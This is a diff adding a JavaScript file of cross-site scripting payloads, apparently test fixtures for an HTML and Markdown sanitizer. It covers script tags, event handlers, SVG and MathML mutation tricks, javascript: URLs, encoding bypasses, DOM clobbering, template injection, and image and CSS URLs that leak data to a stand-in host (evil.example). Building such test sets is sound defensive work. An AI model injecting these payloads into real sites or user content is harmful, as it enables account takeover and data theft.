@@ -1,0 +1,40 @@
+// Texts that run a script where a page takes them for HTML, a link, or a piece of either: each would call pwned().
+const P = "pwned(1)";
+const elements = [
+  `<script>${P}</script>`, `<ScRiPt>${P}</sCrIpT>`, `<script src="data:text/javascript,${P}"></script>`, `<script/x>${P}</script>`,
+  `<script type="module">${P}</script>`, `<scr<script>ipt>${P}</scr</script>ipt>`, `<script>/*`, `</script><script>${P}</script>`,
+  `<img src=x onerror=${P}>`, `<img src="x" onerror="${P}">`, `<img/src/onerror=${P}>`, `<IMG SRC=x ONERROR="&#112;wned(1)">`,
+  `<img src=x onerror\n=\n"${P}">`, `<img src="x:x" onerror="${P}"`, `"><img src=x onerror=${P}>`, `'><img src=x onerror=${P}>`,
+  `<img src=x onload=${P} src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`, `<image src=x onerror=${P}>`, `<img srcset=x onerror=${P}>`,
+  `<svg onload=${P}>`, `<svg/onload=${P}>`, `<svg><script>${P}</script></svg>`, `<svg><a xlink:href="javascript:${P}"><text>x</text></a></svg>`,
+  `<svg><animate onbegin=${P} attributeName=x dur=1s>`, `<svg><set attributeName=onload to=${P}>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${P}>#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${P}</script>"></foreignObject></svg>`, `<svg><style><img src=x onerror=${P}></style></svg>`,
+  `<svg><desc><![CDATA[</desc><script>${P}</script>]]></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${P}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${P}&gt;">`,
+  `<math href="javascript:${P}">x</math>`, `<math><mi xlink:href="data:x,<script>${P}</script>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>`,
+  `<body onload=${P}>`, `<body onpageshow=${P}>`, `<html onmouseover=${P}>`, `<frameset onload=${P}>`,
+  `<iframe src="javascript:${P}"></iframe>`, `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`, `<iframe onload=${P}>`, `<iframe src="data:text/html,<script>parent.${P}</script>">`,
+  `<object data="javascript:${P}">`, `<object data="data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==">`, `<embed src="javascript:${P}">`, `<embed src="data:image/svg+xml,<svg onload=${P}>">`,
+  `<link rel=stylesheet href="data:text/css,*{color:red}">`, `<link rel=import href="data:text/html,<script>${P}</script>">`, `<base href="javascript:/a/-${P}///////">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${P}">`, `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${P}</script>">`, `<style>@import 'data:text/css,*{}';</style>`, `<style>*{background:url(https://evil.example/x)}</style>`,
+  `<div style="background:url(javascript:${P})">`, `<div style="width:expression(${P})">`, `<p style="animation-name:x" onanimationstart=${P}>`, `<style>@keyframes x{}</style><b style="animation-name:x" onanimationend="${P}">`,
+  `<input autofocus onfocus=${P}>`, `<select autofocus onfocus=${P}>`, `<textarea autofocus onfocus=${P}>`, `<keygen autofocus onfocus=${P}>`, `<button autofocus onfocus=${P}>x</button>`, `<a autofocus onfocus=${P} href=x>x</a>`,
+  `<video src=x onerror=${P}>`, `<video><source onerror=${P}></video>`, `<audio src=x onerror=${P}>`, `<audio controls onloadstart=${P} src=x>`, `<video poster="javascript:${P}">`, `<track onerror=${P}>`,
+  `<details open ontoggle=${P}>x</details>`, `<marquee onstart=${P}>x</marquee>`, `<marquee loop=1 width=0 onfinish=${P}>x</marquee>`, `<dialog open onclose=${P}>`, `<isindex type=image src=1 onerror=${P}>`, `<bgsound src="javascript:${P}">`,
+  `<form action="javascript:${P}"><button>x</button></form>`, `<form><button formaction="javascript:${P}">x</button></form>`, `<input type=image src=x onerror=${P}>`, `<isindex action="javascript:${P}">`,
+  `<a href="javascript:${P}">x</a>`, `<a href="jAvAsCrIpT:${P}">x</a>`, `<a href="java&#10;script:${P}">x</a>`, `<a href="&#1;javascript:${P}">x</a>`, `<a href="data:text/html,<script>${P}</script>">x</a>`, `<a href="vbscript:${P}">x</a>`,
+  `<template><script>${P}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${P}>">`, `<noembed><img src=x onerror=${P}></noembed>`, `<xmp><img src=x onerror=${P}></xmp>`, `<plaintext><img src=x onerror=${P}>`,
+  `<title><img src=x onerror=${P}></title>`, `<!--><img src=x onerror=${P}>-->`, `<!--[if gte IE 4]><script>${P}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${P}>]]>`, `<?xml version="1.0"?><img src=x onerror=${P}>`, `<x onclick=${P}>x</x>`, `<custom-element onconnected=${P} is="x">`,
+  `<table background="javascript:${P}">`, `<td background="javascript:${P}">`, `<p onpointerenter=${P} onmousemove=${P}>x</p>`, `<div id=__proto__ onclick=${P}><a id=cookie name=cookie></div>`, `<form id=document><input name=body>`, `<img name=getElementById><form name=createElement>`,
+];
+const markdown = [
+  `[x](javascript:${P})`, `[x](JaVaScRiPt:${P})`, `[x](javascript&#58;${P})`, `[x](java\tscript:${P})`, `[x](<javascript:${P}>)`, `[x]( javascript:${P})`, `[x](\u0001javascript:${P})`,
+  `[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)`, `[x](vbscript:${P})`, `[x](x "title\\" onmouseover=${P} x=\\"")`, `[x](https://a.example/"onmouseover="${P})`,
+  `![x](x"onerror="${P})`, `![x](javascript:${P})`, `![" onerror="${P}](x)`, `![x](https://evil.example/leak?text=secret)`, `![x](data:image/svg+xml,<svg onload=${P}>)`,
+  `<javascript:${P}>`, `<https://a.example/"><img/src/onerror=${P}>>`, `[a]: javascript:${P}\n\n[a]`, `[a]: https://x "<img src=x onerror=${P}>"\n\n[a]`,
+  "```<img src=x onerror=pwned(1)>\nx\n```", "```\"><script>pwned(1)</script>\nx\n```", "`<img src=x onerror=pwned(1)>`", `# <img src=x onerror=${P}>`, `| <img src=x onerror=${P}> | b |\n|---|---|\n| <svg onload=${P}> | x |`,
+  `> <iframe onload=${P}>`, `- [ ] <img src=x onerror=${P}>`, `1. [x](javascript:${P})`, `**<img src=x onerror=${P}>**`, `~~[x](javascript:${P})~~`, `<a href="x">[y](javascript:${P})</a>`, `[![x](x)](javascript:${P})`,
+  `\\<img src=x onerror=${P}>`, `&lt;img src=x onerror=${P}&gt;`, `&#60;script&#62;${P}&#60;/script&#62;`, `%3Cscript%3E${P}%3C/script%3E`, `\u202e<img src=x onerror=${P}>`, `\ufeff<script>${P}</script>`, `<img\u0000src=x onerror=${P}>`,
+  "$(pwned(1))", "${pwned(1)}", "{{constructor.constructor('pwned(1)')()}}", "<%= pwned(1) %>", "javascript:pwned(1)", "'-pwned(1)-'", "\\u003cscript>pwned(1)</script>",
+];
+export const payloads = [...elements, ...markdown];
